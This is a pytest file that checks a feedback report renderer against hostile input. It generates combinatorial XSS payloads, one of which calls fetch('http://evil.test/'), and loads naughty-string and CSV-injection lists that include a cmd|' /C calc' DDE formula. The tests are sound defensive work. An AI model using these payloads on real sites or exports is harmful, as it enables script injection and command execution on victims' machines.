"""Hostile feedback in a browser: nothing runs, nothing is asked for, and every text is shown as it was stored."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from browser import Reader, chromium
from soak import amount
from test_hostile_words import planted

from flywheel.cells import guarded_row
from flywheel.report.build import build_report
from flywheel.report.cycle_report import Quote, Quotes
from flywheel.report.facts import ReportFacts
from flywheel.report.render import render
from flywheel.report.words import visible

_TAGS = (
    "script",
    "img",
    "svg",
    "iframe",
    "body",
    "input",
    "video",
    "math",
    "details",
    "object",
    "style",
    "link",
    "form",
)
_EVENTS = ("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationstart")
_DOES = ("alert(1)", "fetch('http://evil.test/')", "document.title='owned'", "javascript:alert(1)", "{{ 7 * 7 }}")
_BREAKS = ("", "\"'>", "</q></bdi></td>", "</style>", "</textarea>", "--><!--", "]]>", "\u202e", "&lt;", "<![CDATA[")
_FIELDS_AT_ONCE = 25
"""So many payloads stand in every field at once: in `make soak` 20 times as many."""


def payloads(n: int, seed: int) -> list[str]:
    """Return attacks put together from tags, events, what they do, and what they break out of."""
    shapes = [
        f"{broken}<{tag} src=x href=javascript:alert(1) {event}={does}>{does}</{tag}>"
        for broken, tag, event, does in product(_BREAKS, _TAGS, _EVENTS, _DOES)
    ]
    return random.Random(seed).sample(shapes, n)


@pytest.fixture(scope="module")
def chrome() -> Iterator[Any]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def reader(chrome: Any) -> Iterator[Reader]:
    opened = Reader(chrome)
    yield opened
    opened.close()


def naughty(data_dir: Path) -> list[str]:
    folder = data_dir / "11_nasty_input"
    texts: list[str] = json.loads((folder / "blns.json").read_text(encoding="utf-8"))
    return [*texts, *(folder / "csv_injection_payloads.txt").read_text(encoding="utf-8").splitlines()]


def test_500_payloads_and_all_naughty_strings_are_read_and_do_nothing(
    reader: Reader, facts: ReportFacts, templates: tuple[Path, ...], tmp_path: Path, data_dir: Path
) -> None:
    texts = [one for one in (*payloads(500, 1), *naughty(data_dir)) if one.strip()]
    quotes = tuple(_quote(one) for one in texts)
    report = build_report(facts)
    block = Quotes(title="All", rule="All of them.", items=quotes)
    section = report.sections[0].model_copy(update={"blocks": (block,)})
    page = _written(tmp_path, render(report.model_copy(update={"sections": (section,)}), ["html"], templates))
    opened = reader.open(page)
    shown = opened.locator("blockquote").evaluate_all("all => all.map(one => one.textContent)")
    assert shown == [_parsed(visible(one)) for one in texts]
    assert _happened(reader) == []


@pytest.mark.parametrize("seed", range(amount(1, 20)))
def test_payloads_in_every_field_do_nothing(
    seed: int, reader: Reader, facts: ReportFacts, templates: tuple[Path, ...], tmp_path: Path
) -> None:
    attack = "".join(payloads(_FIELDS_AT_ONCE, seed))
    ours = {name: facts.model_dump()[name] for name in ("plays", "maturity")}
    hostile = planted(facts.model_copy(update={"plays": (), "maturity": ()}), attack)
    given = ReportFacts.model_validate(hostile.model_dump() | ours)
    files = render(build_report(given), ["html", "digest"], templates)
    for name in ("report.html", "digest.html"):
        opened = reader.open(_written(tmp_path, files, name))
        opened.mouse.move(100, 300)
        assert opened.locator("script, img, iframe, object, video, input, form").count() == 0
        assert _happened(reader) == []


def test_no_cell_of_an_export_is_a_formula(data_dir: Path) -> None:
    texts = [*payloads(500, 4), *naughty(data_dir), *(f"{lead}cmd|' /C calc'!A0" for lead in "=+-@\t")]
    file = io.StringIO()
    csv.writer(file, quoting=csv.QUOTE_NONNUMERIC).writerows([guarded_row([one]) for one in texts])
    cells = [row[0] for row in csv.reader(io.StringIO(file.getvalue(), newline=""))]
    assert len(cells) == len(texts)
    assert not [one for one in cells if one.lstrip("\ufeff\u200b \u00a0")[:1] in tuple("=+-@\t\r")]


def _quote(text: str) -> Quote:
    return Quote(feedback_id="f", text=text, evidence="", topic="t", label="l", language="en")


def _written(folder: Path, files: dict[str, bytes], name: str = "report.html") -> Path:
    page = folder / name
    page.write_bytes(files[name])
    return page


def _happened(reader: Reader) -> list[str]:
    """Return what ran or was asked for."""
    return [*reader.asked, *reader.ran, *(["its title was changed"] if reader.page.title() == "owned" else [])]


def _parsed(text: str) -> str:
    return text.encode("utf-8", "replace").decode()
